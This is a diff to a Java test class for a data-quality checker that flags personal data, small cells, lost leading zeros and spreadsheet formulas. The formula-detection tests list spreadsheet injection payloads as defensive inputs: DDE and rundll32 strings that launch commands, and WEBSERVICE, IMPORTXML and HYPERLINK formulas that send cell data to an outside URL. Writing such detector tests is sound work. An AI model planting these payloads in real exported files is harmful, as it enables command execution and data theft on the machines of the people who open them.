@@ -50,6 +50,7 @@ class ContentIssuesTest {
 	@ParameterizedTest
 	@CsvSource(delimiter = '!', quoteCharacter = '~', value = { "SSN! 123-45-6789/078-05-1120! personal-data! 1! hide-column", "Id! 123-45-6789/078-05-1120! personal-data! 1! hide-column",
 			"First Name! Ann/Bob/María! personal-data! 1! hide-column", "patientName! Ann Lee/Bob Ray! personal-data! 1! hide-column", "Date of Birth! 1980-01-02/1991-03-04! personal-data! 1! hide-column",
+			"DOB! 19800102/19910304/20010506! personal-data! 1! hide-column", "Owner! Lee, Ann/Bob Ray/O'Neil-Smith, Jo B.! personal-data! 1! hide-column",
 			"Phone! (860) 555-0123/(860) 555-0199! personal-data! 1! hide-column", "Contact! jo.smith@example.org/b@example.org! personal-data! 1! hide-column",
 			"Overdose Deaths! 120/3/15/77! small-cells! 2! ", "Students! 12/450/5! small-cells! 3! ", "Note! plain/=HYPERLINK(\"x\")! formula-injection! 2! ",
 			"ZIP Code! 6103/6105/10001! lost-leading-zeros! 1! pad-zeros", "County FIPS! 9001/9003/36001! lost-leading-zeros! 1! pad-zeros", "Date Opened! 45000/45123/44001! serial-dates! 1! serial-dates",
@@ -82,14 +83,15 @@ class ContentIssuesTest {
 	@ParameterizedTest
 	@CsvSource(delimiter = '!', quoteCharacter = '~', value = { "Town! Avon/Kent", "Amount! -5/-12.50/3", "Change! +1/-2/+3", "Parcel! 12-345-6789/12-345-6780", "Project Name! Roof/Deck", "Rate per 1000 people! 1/2/3", "Grade! A/B",
 			"ZIP! 06103/06105", "Date! 2024-01-01/2024-01-02", "Office! info@example.org/press@example.org", "Remark! - one/- two (see above)", "Separator! ====/----", "Reading! 1.5E-7/2.0E-3", "Latitude! 41.5/42",
-			"Handle! @town/@state", "Vendor Name! Acme/Bolt", "Number of bedrooms! 1/2/3", "Fiscal Year! 2023/2024" })
+			"Handle! @town/@state", "Vendor Name! Acme/Bolt", "Number of bedrooms! 1/2/3", "Fiscal Year! 2023/2024", "Female! 0/1/1/0", "Children! 0/2/3/1/5", "Play Count! 1/3/250", "Sex of victim! White/Black", "Parents! degree/no degree",
+			"Victim! White/Black/White", "Month! 0/1/3/6/0/1/3/6", "Year! 1565/1570/2019", "Smile! =)/=;-)/=|", "Tweet! @town great fight!Congratulations/@kent wow!ok", "Emoji! \uD83D\uDC68\u200D\uD83D\uDC67/b" })
 	void saysNothingOfOrdinaryColumns(String name, String cells) throws IOException {
 		assertEquals(List.of(), column(name, cells));
 	}
 
 	@ParameterizedTest
 	@ValueSource(strings = { "=1+1", "=SUM(A1:A9)", "=HYPERLINK(\"http://example.org?x=\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "=WEBSERVICE(\"http://example.org\")",
-			"=IMPORTXML(CONCAT(\"http://example.org\"),\"//a\")", "\t=1+1", "\r=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=-2+3", "=+A1", "+SUM(A1:A2)", "-SUM(A1:A2)", "=2+5+cmd|' /C calc'!A0", "=rundll32|'URL.dll,OpenURL calc.exe'!A",
+			"=IMPORTXML(CONCAT(\"http://example.org\"),\"//a\")", "\t=1+1", "\r=1+1", "='C:/a.xls'!A1", "=(1+2)", "={1}", "=@A1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=-2+3", "=+A1", "+SUM(A1:A2)", "-SUM(A1:A2)", "=2+5+cmd|' /C calc'!A0", "=rundll32|'URL.dll,OpenURL calc.exe'!A",
 			"@AVERAGE(A1)", "=\"00123\"" })
 	void knowsFormulas(String text) {
 		assertEquals(CellClass.FORMULA, CellClass.of(text));
